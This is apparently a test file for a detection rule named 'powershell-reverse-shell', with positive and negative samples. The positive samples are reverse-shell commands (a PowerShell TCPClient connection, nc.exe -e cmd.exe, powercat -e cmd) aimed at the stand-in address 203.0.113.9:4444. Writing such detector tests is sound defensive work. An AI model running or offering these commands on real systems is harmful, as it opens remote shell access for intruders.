# ruleid: powershell-reverse-shell
$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444)
# ruleid: powershell-reverse-shell
$s = $c.GetStream()
# ruleid: powershell-reverse-shell
nc.exe -e cmd.exe 203.0.113.9 4444
# ruleid: powershell-reverse-shell
powercat -c 203.0.113.9 -p 4444 -e cmd
# ok: powershell-reverse-shell
Test-NetConnection db.internal -Port 5432
# ok: powershell-reverse-shell
Enter-PSSession web1
# ok: powershell-reverse-shell
Invoke-Command -ComputerName web1 -ScriptBlock { hostname }
# a decoy: $c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444)
